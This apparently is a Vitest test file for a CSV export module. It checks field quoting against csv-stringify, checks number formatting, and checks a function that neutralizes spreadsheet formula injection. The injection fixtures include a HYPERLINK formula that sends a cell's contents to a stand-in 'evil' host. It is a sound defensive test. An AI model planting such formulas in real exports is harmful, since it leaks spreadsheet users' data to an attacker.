import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvFormatter, decimalText, neutralizeFormula } from './csv.js';

describe('csvFormatter', () => {
  it('quotes fields holding the delimiter, quotes or line breaks, doubling inner quotes', () => {
    const line = csvFormatter(';');
    expect(line(['1', 'a;b', 'say "hi"', 'x\ny', 'plain', '10,5'])).toBe(
      '1;"a;b";"say ""hi""";"x\ny";plain;10,5\r\n',
    );
    expect(csvFormatter(',')(['10,5', ''])).toBe('"10,5",\r\n');
  });

  it('matches csv-stringify (RFC 4180) on generated records', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(',', ';', '\t', '|', ']', '^', '-', '\\'),
        fc.array(fc.string({ unit: 'binary', maxLength: 12 }), { minLength: 1, maxLength: 6 }),
        (delimiter, fields) => {
          // csv-stringify only quotes the record delimiter itself (CRLF); RFC 4180 quotes any CR or LF.
          const expected = stringify([fields], {
            delimiter,
            record_delimiter: 'windows',
            quoted_match: /[\r\n]/,
          });
          expect(csvFormatter(delimiter)(fields)).toBe(expected);
        },
      ),
      { numRuns: 500 },
    );
  });

  it('refuses delimiters that cannot be parsed back', () => {
    expect(() => csvFormatter('"')).toThrow();
    expect(() => csvFormatter('ab')).toThrow();
  });
});

describe('decimalText', () => {
  it('writes every number as String() does', () => {
    fc.assert(
      fc.property(
        fc.oneof(fc.double(), fc.integer(), fc.constantFrom(-0, 0.1 + 0.2, 1e21, 5e-7)),
        (value) => {
          expect(decimalText(value)).toBe(String(value));
        },
      ),
      { numRuns: 2000 },
    );
    expect(decimalText(null)).toBe('null');
  });
});

describe('neutralizeFormula', () => {
  it.each([
    ['=HYPERLINK("http://evil/?"&A1)', `'=HYPERLINK("http://evil/?"&A1)`],
    ['+1+2', "'+1+2"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tcmd', "'\tcmd"],
    ['\rcmd', "'\rcmd"],
  ])('prefixes %j with a quote', (text, expected) => {
    expect(neutralizeFormula(text)).toBe(expected);
  });

  it('leaves other text as it is', () => {
    for (const text of ['L-42', 'a=b', '', ' =x', "'quoted", 'null'])
      expect(neutralizeFormula(text)).toBe(text);
  });
});
